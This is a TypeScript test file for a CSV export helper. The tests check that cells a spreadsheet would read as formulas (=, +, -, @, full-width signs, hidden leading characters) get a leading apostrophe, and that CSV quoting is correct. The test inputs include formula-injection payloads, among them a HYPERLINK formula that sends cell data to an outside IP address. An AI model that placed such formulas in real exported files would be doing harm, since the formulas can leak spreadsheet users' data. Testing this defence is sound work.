import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { fromExportText, toCsvCell, toCsvLine, toExportText } from './export-cell.ts'

describe('a text that a spreadsheet would take for a formula', () => {
  test.each([
    '=1+1',
    '+8615400000001',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n-1',
    '\u0000=1',
    ' =cmd',
    '\ufeff=1',
    '\u200b=1',
    '\u202e=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    '\u3000＝1',
    '=HYPERLINK("http://198.51.100.1/"&A1,"x")',
  ])('is led in by an apostrophe: %j', (text) => {
    expect(toExportText(text)).toBe(`'${text}`)
  })

  test.each(['甄某', '1=1', 'a@b', '', '12', '2026-01-05', '（=1）'])('and nothing else is: %j', (text) => {
    expect(toExportText(text)).toBe(text)
  })

  const near = fc.string({
    unit: fc.constantFrom("'", '=', '+', '-', '@', '＝', ' ', '\t', '\r', '\n', '\u0000', '\u200b', 'a', '"', ','),
  })
  test('comes back as it was, whatever it was', () => {
    fc.assert(fc.property(near, (text) => void expect(fromExportText(toExportText(text))).toBe(text)))
  })
  test('never begins with a sign, however it is written', () => {
    fc.assert(
      fc.property(near, (text) => void expect(toCsvCell(text)).not.toMatch(/^"?[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u)),
    )
  })
})

describe('a line of a CSV file', () => {
  test('quotes what would end a cell or a line, after it was made safe', () => {
    expect(toCsvLine(['a,b', 'say "no"', '=1,2', 'two\r\nlines'])).toBe(`"a,b","say ""no""","'=1,2","two\r\nlines"\r\n`)
  })
  test('keeps numbers as numbers, also below nought, and leaves out what is not there', () => {
    expect(toCsvLine([-12, 0, true, null, '-12'])).toBe("-12,0,true,,'-12\r\n")
  })
})
